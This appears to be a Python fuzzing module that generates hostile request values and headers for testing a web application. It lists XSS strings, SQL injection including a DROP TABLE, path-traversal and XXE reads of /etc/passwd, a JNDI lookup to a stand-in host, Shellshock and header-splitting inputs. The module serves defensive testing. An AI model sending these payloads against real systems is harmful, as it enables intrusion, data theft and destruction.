"""What somebody who means harm types, as bytes: words, numbers, days, headers.

Whatever could come back in an answer carries a mark that the checks look for.
"""

from collections.abc import Callable
from random import Random

HOST = "catalogue.example"
# an address, a word and a header that no answer may lead to or hold
ELSEWHERE = "evil.example"
SCRIPTS = [
    b"<script>attack()</script>",
    b'"><img src=x onerror=attack()>',
    b'" onmouseover=attack() x="',
    b"' onmouseover=attack() x='",
    b"</title><script>attack()</script>",
    b"]]><script>attack()</script>",
    b"--><script>attack()</script>",
    b"javascript:attack()",
    b"data:text/html,<script>attack()</script>",
    b'{{ "att"|add:"acked" }}{% debug %}{{ settings.SECRET_KEY }}',
    b"%(attack)s {attack} ${attack} $(attack) `attack`",
]
SPLITTERS = [
    b"\r\nX-Attack: 1\r\n\r\n<script>attack()</script>",
    b"\nX-Attack: 1\nSet-Cookie: attack=1",
    b"\xc4\x8d\xc4\x8aX-Attack: 1",
]
TARGETS = [
    b"//evil.example",
    b"///evil.example/",
    b"/\\evil.example",
    b"\\\\evil.example",
    b"https://evil.example/",
    b"https:evil.example",
    b"\thttps://evil.example",
    b"/\t/evil.example",
    b"//catalogue.example@evil.example/",
    b"https://catalogue.example.evil.example/",
    b"https://catalogue.example\\@evil.example/",
    b"//evil.example/%2e%2e",
    b"/%2f%2fevil.example",
    b"/admin/../../../evil.example",
]
QUERIES_OF_DATABASES = [
    b"' OR 1=1 --",
    b"1; DROP TABLE evaluations_platform; --",
    b"' UNION SELECT name, sql FROM sqlite_master --",
    b"pg_sleep(10)",
    b"1' AND randomblob(1000000000) --",
    b"zoom%' ESCAPE '",
    b"zoom__startswith",
    b"%",
    b"_" * 200,
    b"\\",
    # of full-text search on SQLite, and on PostgreSQL
    b'"zoom" OR NOT "a"',
    b'"',
    b"zoom*",
    b"*",
    b"^zoom",
    b"tokens:zoom",
    b"NEAR(a b, 99999999)",
    b"a AND (b OR (c NOT d",
    b"-zoom +signal",
    b"{a b} : zoom",
    b"zoom & !signal | (a <-> b)",
    b"zoom:*",
]
WORDS = [
    b"wachtwoord" * 20,
    b"wachtwoord" * 4,
    b"video" * 40,
    b"patientendossier" * 6,
    b"aan" * 60,
    b"a" * 10_000,
    b"a-" * 5_000,
    "é".encode() * 5_000,
    "\u0301".encode() * 5_000,
    "ﷺ".encode() * 1_000,
    "İıſK".encode() * 50,
    b"a" * 40 + b"b",
    b"(a+)+$" + b"a" * 40,
    b"a" * 30 + b"!",
    b" ".join(b"beeldbellen%d" % number for number in range(40)),
    b" ".join(b"salle d'attente " for _ in range(20)),
    b"de het een le la les",
    b"x",
]
TEXTS = [
    b"",
    b" ",
    b"\t\n\x0b\x0c\r",
    b"\x00",
    b"zoom\x00signal",
    b"\xff\xfe\xfd",
    b"\xed\xa0\x80",
    b"\xed\xa0\xbd\xed\xb8\x80",
    b"\xc0\xaf",
    b"\xf4\x90\x80\x80",
    "\ufeff\u200b\u202e\u2028\u0085\ufffe".encode(),
    "😀🧑‍⚕️".encode(),
    "٣".encode(),
    "½".encode(),
    b"%",
    b"%%",
    b"%zz",
    b"%u0000",
    b"%00",
    b"%C0%AF",
    b"%25%32%35",
    b"+",
    b"&&&===",
    b";",
    b"#",
    b"[]",
    b"[$ne]",
    b"__proto__",
    b"None",
    b"null",
    b"undefined",
    b"true",
    b"\xe2\x80\xae",
]
NUMBERS = [
    b"0",
    b"-1",
    b"1",
    b"2",
    b"99",
    b"01",
    b"+1",
    b"1_0",
    b"1.5",
    b"1e9",
    b"NaN",
    b"inf",
    b"0x10",
    b"2147483648",
    b"9223372036854775807",
    b"9223372036854775808",
    b"-9223372036854775809",
    b"9" * 30,
    b"9" * 5_000,
    "²".encode(),
    "१".encode(),
    b"last",
]
DAYS = [
    b"2026-11-24",
    b"2020-04-14",
    b"0001-01-01",
    b"0000-00-00",
    b"9999-12-31",
    b"10000-01-01",
    b"2026-02-30",
    b"-0001-01-01",
    b"24/11/2026",
    b"31/12/9999",
    b"2026-W47-2",
    b"2026-11-24T00:00:00Z",
    b"now",
    b"20261124",
]
FILES = [
    b"../../../../etc/passwd",
    b"..\\..\\..\\windows\\win.ini",
    b"%2e%2e/%2e%2e/etc/passwd",
    b"....//....//etc/passwd",
    b"/etc/passwd",
    b"C:/boot.ini",
    b"\x00.css",
    b".git/config",
    b".env",
    b"css/",
    b"css/../css/site.css",
    b"staticfiles.json",
    b"css/site.css.br",
]
TREES = [
    [b"a[b][c][d]" * 100, b"(" * 3_000, b"[" * 3_000, b"{" * 3_000, b"<a>" * 2_000],
    [b'{"a":' * 500 + b"1" + b"}" * 500, b"${jndi:ldap://evil.example/a}"],
    [b"<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>"],
]
KINDS = [SCRIPTS, SPLITTERS, TARGETS, QUERIES_OF_DATABASES, WORDS, TEXTS]
# these are tried less often
KINDS += [*KINDS, SCRIPTS, SCRIPTS, NUMBERS, DAYS, FILES, *TREES]


def value(random: Random) -> bytes:
    """Return a value of any kind, now and then two together or in part."""
    text = random.choice(random.choice(KINDS))
    roll = random.random()
    if roll < 0.1:
        return text + random.choice(random.choice(KINDS))
    if roll < 0.2:
        return text[: random.randrange(len(text) + 1)]
    if roll < 0.25:
        return random.randbytes(random.randrange(60))
    return text


MANY = [
    b"a, " * 10_000,
    b"fr;q=0.1," * 2_000,
    b"x" * 60_000,
    b"\xff\xfe" * 200,
    b"\x00",
    b",;,=;q=,",
    b'"' * 999,
]
HEADERS: dict[str, list[bytes]] = {
    "HTTP_HOST": [
        b"evil.example",
        b"catalogue.example:99999",
        b"catalogue.example@evil.example",
        b"catalogue.example, evil.example",
        b"",
        b"[::1]:0",
        b"\xff",
        b"a" * 9_000,
        b"catalogue.example\r\nX-Attack: 1",
        b"CATALOGUE.EXAMPLE.",
    ],
    "HTTP_ACCEPT_LANGUAGE": [
        b"nl",
        b"fr-BE;q=1e999, nl;q=nan",
        b"*",
        b"nl;q=2",
        b"i-\xff",
        b"zh-Hans-" + b"x-" * 5_000,
    ],
    "HTTP_ACCEPT_ENCODING": [
        b"br",
        b"gzip, br;q=0",
        b"zstd, gzip;q=abc",
        b"gzip;q=1e999",
        b"*;q=0",
        b"identity;q=0",
        b"gzip;q=-1",
    ],
    "HTTP_ACCEPT": [b"application/json", b"text/html;level=1;q=x", b"*/*;q=1e999"],
    "HTTP_RANGE": [
        b"bytes=0-0",
        b"bytes=-1",
        b"bytes=5-1",
        b"bytes=0-" + b"9" * 100,
        b"bytes=-" + b"9" * 5_000,
        b"bytes=" + b"0-1," * 5_000,
        b"bytes=a-b",
        b"lines=1-2",
        b"bytes=9999999-",
    ],
    "HTTP_IF_NONE_MATCH": [b"*", b'"a"', b'W/"a", "b', b'"' + b"a" * 9_000, b"a,b"],
    "HTTP_IF_MATCH": [b"*", b'"a"', b'W/"', b""],
    "HTTP_IF_MODIFIED_SINCE": [
        b"Thu, 01 Jan 1970 00:00:00 GMT",
        b"Mon, 31 Feb 2026 99:99:99 GMT",
        b"Fri, 31 Dec 9999 23:59:59 GMT",
        b"Mon, 01 Jan 0001 00:00:00 GMT",
        b"Sunday, 06-Nov-94 08:49:37 GMT",
        b"0",
        b"-1",
    ],
    "HTTP_IF_UNMODIFIED_SINCE": [b"Thu, 01 Jan 1970 00:00:00 GMT", b"x"],
    "HTTP_COOKIE": [
        b'csrftoken="',
        b"csrftoken=<script>attack()</script>; sessionid=attack",
        b"sessionid=" + b"a" * 32,
        b"sessionid=../../etc/passwd; sessionid=\xff",
        b"django_language=<script>attack()</script>",
        b"a=b; " * 5_000,
        b"=;=;;;",
        b'messages="\\054\\"',
        b"__Host-a=1; $Version=1; Path=/",
    ],
    "CONTENT_TYPE": [
        b"application/x-www-form-urlencoded; charset=utf-7",
        b"application/x-www-form-urlencoded; charset=zlib",
        b"application/x-www-form-urlencoded; charset=\xff",
        b"application/x-www-form-urlencoded; charset=idna",
        b"multipart/form-data",
        b"multipart/form-data; boundary=",
        b"multipart/form-data; boundary=" + b"a" * 5_000,
        b"multipart/form-data; boundary=\xff\x00",
        b"multipart/mixed; boundary=x",
        b"application/json; charset=utf-16",
        b"text/html;;;==;" + b"a=b;" * 1_000,
        b"/",
    ],
    "CONTENT_LENGTH": [b"-1", b"abc", b"", b"1", b"9" * 5_000, b"\xb2", b"99999"],
    "HTTP_TRANSFER_ENCODING": [b"chunked", b"gzip, chunked", b"identity"],
    "HTTP_X_FORWARDED_HOST": [b"evil.example"],
    "HTTP_X_FORWARDED_PROTO": [b"http", b"https", b"javascript", b"https, http"],
    "HTTP_X_FORWARDED_FOR": [b"1.2.3.4", b"::1, <script>attack()</script>", b"x" * 999],
    "HTTP_X_FORWARDED_PORT": [b"99999", b"x"],
    "HTTP_X_FORWARDED_PREFIX": [b"//evil.example"],
    "HTTP_FORWARDED": [b"for=_evil;host=evil.example;proto=javascript"],
    "HTTP_X_ORIGINAL_URL": [b"/admin/"],
    "HTTP_X_REWRITE_URL": [b"/admin/"],
    "HTTP_X_HTTP_METHOD_OVERRIDE": [b"DELETE", b"POST"],
    "HTTP_X_REQUESTED_WITH": [b"XMLHttpRequest"],
    "HTTP_ORIGIN": [b"https://evil.example", b"null", b"[", b"\xff"],
    "HTTP_REFERER": [b"https://evil.example/", b"https://[", b"//", b"\xff\xfe"],
    "HTTP_USER_AGENT": [b"", b"() { :; }; attack", b"<script>attack()</script>"],
    "HTTP_AUTHORIZATION": [b"Basic YTpi", b"Bearer attack", b"Digest \xff"],
    "HTTP_EXPECT": [b"100-continue"],
    "HTTP_UPGRADE": [b"h2c", b"websocket"],
    "HTTP_X_CSRFTOKEN": [b"attack", b"a" * 64, b"\xff" * 32],
    "HTTP_PROXY": [b"http://evil.example"],
    "HTTP_SEC_FETCH_SITE": [b"cross-site"],
}


def header(random: Random) -> tuple[str, bytes]:
    """Return a header with a value that fits it, or with one that fits none."""
    name = random.choice(list(HEADERS))
    choices: list[Callable[[], bytes]] = [
        lambda: random.choice(HEADERS[name]),
        lambda: random.choice(MANY),
        lambda: value(random),
    ]
    return name, random.choices(choices, weights=[8, 1, 1])[0]()
